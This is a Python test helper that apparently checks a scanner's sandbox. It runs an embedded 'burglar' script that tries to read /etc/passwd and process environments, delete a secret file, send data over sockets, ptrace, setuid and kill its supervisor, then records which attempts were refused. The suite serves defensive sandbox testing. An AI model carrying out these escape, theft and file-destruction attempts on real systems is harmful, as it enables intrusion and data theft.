"""A hostile tool that tries each door of its sandbox and notes which one gave way."""

from __future__ import annotations

import json
import os
import select
import socket
from pathlib import Path
from typing import Any

from scanners import syscalls
from scanners.sandbox import Rung

from .standin import Stage

BURGLAR = r"""
import ctypes, errno, fcntl, json, os, resource, signal, socket, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
where = json.loads(sys.argv[1])
answers = {}

def attempt(name):
    def run(act):
        try:
            answers[name] = ["did", repr(act())]
        except OSError as error:
            answers[name] = ["refused", errno.errorcode.get(error.errno, str(error))]
        return act
    return run

def call(number, *arguments):
    answer = libc.syscall(number, *arguments)
    if answer < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return answer

def read(path):
    with open(path, "rb") as file:
        return file.read(100)

def send(kind, address, family=socket.AF_INET):
    with socket.socket(family, kind) as each:
        each.settimeout(2)
        each.connect(address)
        each.send(b"stolen")

def send_by_pair(address):
    left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    left.sendto(b"stolen", address)

def send_by_message(address):
    left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    left.sendmsg([b"stolen"], [], 0, address)

def send_by_raw_call(address):
    left, right = socket.socketpair()
    left.sendto(b"stolen", address)

def write(path):
    with open(path, "w") as file:
        file.write("was here")

for name, path in where["files"].items():
    attempt("read " + name)(lambda: read(path))
for name, path in where["places"].items():
    attempt("write " + name)(lambda: write(path))
attempt("list other")(lambda: os.listdir(where["other"]))
attempt("change mode")(lambda: os.chmod(where["files"]["secret"], 0o777))
attempt("truncate")(lambda: os.truncate(where["files"]["secret"], 0))
attempt("remove")(lambda: os.unlink(where["files"]["secret"]))
attempt("tcp")(lambda: send(socket.SOCK_STREAM, ("127.0.0.1", where["tcp"])))
attempt("udp")(lambda: send(socket.SOCK_DGRAM, ("127.0.0.1", where["udp"])))
attempt("dns")(lambda: socket.getaddrinfo("example.org", 80))
attempt("unix")(lambda: send(socket.SOCK_DGRAM, where["unix"], socket.AF_UNIX))
attempt("unix pair")(lambda: send_by_pair(where["unix"]))
attempt("unix message")(lambda: send_by_message(where["unix"]))
attempt("abstract message")(lambda: send_by_message(where["abstract"]))
attempt("abstract pair")(lambda: send_by_pair(where["abstract"]))
attempt("unix stream pair")(lambda: send_by_raw_call(where["unix"]))
attempt("signal worker")(lambda: os.kill(where["worker"], 0))
attempt("signal all")(lambda: os.kill(-1, 0))
attempt("signal parent")(
    lambda: os.getppid() == 1 or os.kill(os.getppid(), signal.SIGKILL)
)
attempt("limit worker")(
    lambda: resource.prlimit(where["worker"], resource.RLIMIT_NOFILE)
)
attempt("ptrace")(lambda: call(where["numbers"]["ptrace"], 16, where["worker"], 0, 0))
attempt("answer for supervisor")(lambda: write("/proc/%d/fd/1" % os.getppid()))
attempt("own a descriptor's signals")(
    lambda: fcntl.fcntl(0, fcntl.F_SETOWN, where["worker"])
)
attempt("namespace")(lambda: call(where["numbers"]["unshare"], 0x10000000))
attempt("memfd")(lambda: os.memfd_create("x"))
attempt("hide from supervisor")(
    lambda: libc.prctl(4, 0, 0, 0, 0) and (_ for _ in ()).throw(OSError(1, "refused"))
)
attempt("io_uring")(lambda: call(425, 1, 0))
attempt("mkfifo")(lambda: os.mkfifo("pipe"))
attempt("set-uid")(lambda: os.setuid(0) if os.getuid() else os.setuid(1))
attempt("child")(lambda: subprocess.run([sys.executable, "-c", "pass"], check=True))
attempt("read target")(lambda: read(where["model"]))
attempt("own socketpair")(lambda: socket.socketpair())

answers["capabilities"] = [
    line.split()[1] for line in open("/proc/self/status") if line.startswith("CapEff")
]
answers["environment"] = sorted(os.environ)
answers["descriptors"] = sorted(os.listdir("/proc/self/fd"))
answers["limits"] = [resource.getrlimit(resource.RLIMIT_NOFILE)[1],
                     resource.getrlimit(resource.RLIMIT_CORE)[1]]
with open("answers.json", "w") as file:
    json.dump(answers, file)
"""

SECRET = b"another scan's upload"


class Burgled:
    """The answers of one burglar, and what he left behind."""

    def __init__(self, rung: Rung, directory: Path, is_warm: bool) -> None:
        self.rung = rung
        self.stage = Stage(directory, is_warm=is_warm)
        self.other = directory / "uploads"
        self.other.mkdir()
        self.secret = self.other / "secret"
        self.secret.write_bytes(SECRET)
        self.secret.chmod(0o600)
        self.unix = str(directory / "socket")
        self.abstract = f"\0stand-in-{os.getpid()}-{rung}"
        self.heard: list[bytes] = []
        with Listeners(self.unix, self.abstract) as listeners:
            plan = self._plan(listeners)
            completed = self.stage.perform(
                BURGLAR, json.dumps(plan), rung=rung, outputs=("answers.json",)
            )
            self.is_silent = listeners.heard_nothing()
        assert "answers.json" in completed.outputs, completed.stderr.decode()
        self.answers: dict[str, Any] = json.loads(completed.outputs["answers.json"])

    def _plan(self, listeners: Listeners) -> dict[str, Any]:
        stage, column = self.stage, syscalls.MACHINES[os.uname().machine][1]
        places = {
            "outside": str(stage.directory / "outside"),
            "target": str(stage.target.root / "new"),
            "over target": str(stage.target.root / "model.bin"),
            "tool": str(stage.directory / "tool" / "bin" / "new"),
            "temporary": f"/tmp/stand-in-{os.getpid()}",
            "scratch": "mine",
        }
        return {
            "files": {
                "secret": str(self.secret),
                "password file": "/etc/passwd",
                "first environment": "/proc/1/environ",
                "worker environment": f"/proc/{os.getpid()}/environ",
                "worker connections": "/proc/self/net/tcp",
            },
            "places": {"scratch": "mine"} if self.rung is Rung.RLIMITS else places,
            "other": str(self.other),
            "model": str(stage.target.root / "model.bin"),
            "worker": os.getpid(),
            "tcp": listeners.tcp.getsockname()[1],
            "udp": listeners.udp.getsockname()[1],
            "unix": self.unix,
            "abstract": self.abstract,
            "numbers": {
                "ptrace": (101, 117)[column],
                "unshare": (272, 97)[column],
            },
        }

    def refused(self, name: str) -> bool:
        return bool(self.answers[name][0] == "refused")


class Listeners:
    """Whoever on this machine would hear a tool that has the network."""

    def __init__(self, unix: str, abstract: str) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.local = [socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) for _ in "ab"]
        self.local[0].bind(unix)
        self.local[1].bind(abstract)
        Path(unix).chmod(0o777)
        self.all = [self.tcp, self.udp, *self.local]

    def __enter__(self) -> Listeners:
        return self

    def __exit__(self, *exception: object) -> None:
        for each in self.all:
            each.close()

    def heard_nothing(self) -> bool:
        return not select.select(self.all, [], [], 0)[0]
